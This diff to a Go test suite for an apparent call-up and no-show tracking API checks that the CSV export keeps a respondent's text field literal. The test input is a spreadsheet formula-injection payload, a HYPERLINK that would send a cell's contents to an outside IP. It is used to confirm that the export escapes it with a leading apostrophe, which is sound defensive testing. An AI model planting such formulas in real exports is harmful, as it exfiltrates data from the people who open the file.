@@ -163,7 +163,10 @@ func TestAPISelectionAndNoShows(t *testing.T) {
 	sqldbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
 		e := newStaffEnv(t, db)
 		id := e.createCallUp(callUpBody(set("drill", false), set("channels", []string{"sms", "email", "paper"}), set("filter", map[string]any{"status": []string{"active", "reserve"}})))
-		for sn, body := range map[string]string{"G1": `{"answer":"yes"}`, "G2": `{"answer":"no"}`} {
+		// G2's reason is a spreadsheet formula: the CSV must keep it text.
+		formula := `=HYPERLINK("http://192.0.2.9/?"&A2,"open")`
+		g2, _ := json.Marshal(map[string]string{"answer": "no", "reason": formula})
+		for sn, body := range map[string]string{"G1": `{"answer":"yes"}`, "G2": string(g2)} {
 			if rec := e.answerRequest("POST", e.responsePath(id, sn), "192.0.2.1", jsonType, body); rec.Code != 200 {
 				t.Fatalf("answer %s: %d %s", sn, rec.Code, rec.Body)
 			}
@@ -216,7 +219,7 @@ func TestAPISelectionAndNoShows(t *testing.T) {
 					if err := json.Unmarshal(rec.Body.Bytes(), &list); err != nil || len(list.NoShows) != 2 {
 						t.Fatalf("no-shows %s, %v", rec.Body, err)
 					}
-					if g1, g2 := list.NoShows[0], list.NoShows[1]; g1.ServiceNumber != "G1" || !g1.Selected || g1.Answer != "yes" || g1.Phone != "+375291234567" || g2.ServiceNumber != "G2" || g2.Answer != "no" {
+					if g1, g2 := list.NoShows[0], list.NoShows[1]; g1.ServiceNumber != "G1" || !g1.Selected || g1.Answer != "yes" || g1.Phone != "+375291234567" || g2.ServiceNumber != "G2" || g2.Answer != "no" || g2.Reason != formula {
 						t.Errorf("no-shows %s", rec.Body)
 					}
 				}},
@@ -231,7 +234,7 @@ func TestAPISelectionAndNoShows(t *testing.T) {
 			e.h.ServeHTTP(rec, r)
 			rows, err := csv.NewReader(rec.Body).ReadAll()
 			if rec.Code != 200 || err != nil || rec.Header().Get("Content-Type") != "text/csv; charset=utf-8" || len(rows) != 3 ||
-				strings.Join(rows[0], ",") != strings.Join(noShowHeader, ",") || rows[1][0] != "G1" || rows[1][8] != "true" || rows[2][4] != "no" {
+				strings.Join(rows[0], ",") != strings.Join(noShowHeader, ",") || rows[1][0] != "G1" || rows[1][3] != "+375291234567" || rows[1][8] != "true" || rows[2][4] != "no" || rows[2][6] != "'"+formula {
 				t.Errorf("CSV %q %q: %d %v %q", req.query, req.accept, rec.Code, err, rows)
 			}
 		}
